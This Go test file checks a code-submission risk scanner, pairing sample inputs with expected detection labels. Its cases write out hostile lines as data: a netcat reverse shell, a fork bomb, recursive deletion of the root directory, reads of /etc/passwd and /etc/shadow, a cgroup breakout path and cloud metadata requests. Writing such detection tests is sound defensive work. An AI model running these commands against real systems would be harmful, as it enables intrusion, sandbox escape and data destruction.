package monitor

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestScan_CodePatterns(t *testing.T) {
	d := NewRiskScanner()

	tests := []struct {
		name         string
		code         string
		wantMinCount int // minimum number of detections
		wantPattern  string
	}{
		{"os.system", `os.system("ls")`, 1, "shell_exec"},
		{"subprocess", `import subprocess`, 1, "shell_exec"},
		{"c system", `    system("rm x");`, 1, "shell_exec"},
		{"java exec", `Runtime.getRuntime().exec("ls")`, 1, "shell_exec"},
		{"fork", `while (1) fork();`, 1, "fork_bomb"},
		{"python socket", `import socket`, 1, "network_access"},
		{"rmtree", `shutil.rmtree("/")`, 1, "file_deletion"},
		{"proc_self_root", `f = open("/proc/self/root/etc/passwd")`, 1, "proc_self_access"},
		{"cgroup breakout", `open("/sys/fs/cgroup/notify_on_release")`, 1, "container_breakout"},
		{"metadata service", `urlopen("http://169.254.169.254/latest/")`, 1, "metadata_service"},
		{"reverse shell", `nc -e /bin/sh 10.0.0.1 4444`, 1, "reverse_shell"},
		{"ptrace", `ptrace(PTRACE_ATTACH, pid, 0, 0)`, 1, "ptrace_attempt"},
		{"clean python", `print(sum(map(int, input().split())))`, 0, ""},
		{"clean c", `printf("%d\n", a + b);`, 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.Scan("sub-1", tt.code, nil)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantMinCount == 0 && len(dets) > 0 {
				t.Errorf("clean code flagged: %v", dets)
			}
			if tt.wantPattern != "" {
				found := false
				for _, det := range dets {
					if det.Pattern == tt.wantPattern {
						found = true
						break
					}
				}
				if !found {
					t.Errorf("pattern %q not found in detections: %v", tt.wantPattern, dets)
				}
			}
		})
	}
}

func TestScan_LineNumbers(t *testing.T) {
	dets := NewRiskScanner().Scan("sub-1", "x = 1\nimport socket\n", nil)
	if len(dets) != 1 || !cmp.Equal(dets[0].Lines, []int{2}) {
		t.Fatalf("findings = %+v, want one on line 2", dets)
	}
}

// Repeated matches of a pattern collapse into one finding per submission,
// ordered by severity and then by name.
func TestScan_GroupsBySubmission(t *testing.T) {
	code := "import socket\nx = 1\ns = socket.socket()\nos.system('ls')\n"
	outputs := []string{"42\n", "root:x:0:0:root:/root", "again root:x:0:0"}

	got := NewRiskScanner().Scan("sub-7", code, outputs)
	want := []Finding{
		{Pattern: "passwd_leak", Severity: "critical", Detail: "suspicious content in output: passwd_leak", Cases: []int{2, 3}},
		{Pattern: "shell_exec", Severity: "high", Detail: "Spawns a shell or external command", Lines: []int{4}},
		{Pattern: "network_access", Severity: "medium", Detail: "Opens network connections", Lines: []int{1, 3}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Scan mismatch (-want +got):\n%s", diff)
	}
}

func TestScan_Clean(t *testing.T) {
	if got := NewRiskScanner().Scan("sub-1", "print(1)\n", []string{"1\n"}); got != nil {
		t.Errorf("Scan = %+v, want nil", got)
	}
}

func TestScan_OutputPatterns(t *testing.T) {
	d := NewRiskScanner()

	tests := []struct {
		name         string
		output       string
		wantMinCount int
		wantSeverity string
	}{
		{"passwd", "root:x:0:0:root:/root:/bin/bash", 1, "critical"},
		{"docker socket", "found: /var/run/docker.sock", 1, "critical"},
		{"kernel", "Linux version 6.1.0", 1, "high"},
		{"clean output", "hello world\n42\n", 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.Scan("sub-1", "", []string{tt.output})
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantSeverity != "" && len(dets) > 0 {
				if dets[0].Severity != tt.wantSeverity {
					t.Errorf("severity = %q, want %q", dets[0].Severity, tt.wantSeverity)
				}
			}
		})
	}
}

func TestCodeHash(t *testing.T) {
	if CodeHash("a") == CodeHash("b") {
		t.Error("different sources share a hash")
	}
	if got := len(CodeHash("")); got != 16 {
		t.Errorf("len(CodeHash) = %d, want 16", got)
	}
}

func BenchmarkScan(b *testing.B) {
	d := NewRiskScanner()

	codes := []struct {
		name string
		code string
	}{
		{"benign", "print(sum(map(int, input().split())))"},
		{"suspicious", `open("/proc/self/root/etc/shadow").read()`},
		{"complex", `
import os, sys, ctypes
os.system('cat /proc/self/ns/mnt')
ctypes.CDLL(None).init_module(0, 0, 0)
import urllib.request
urllib.request.urlopen('http://169.254.169.254/latest/meta-data/')
`},
	}

	for _, tc := range codes {
		b.Run(tc.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				d.Scan("bench", tc.code, nil)
			}
		})
	}
}
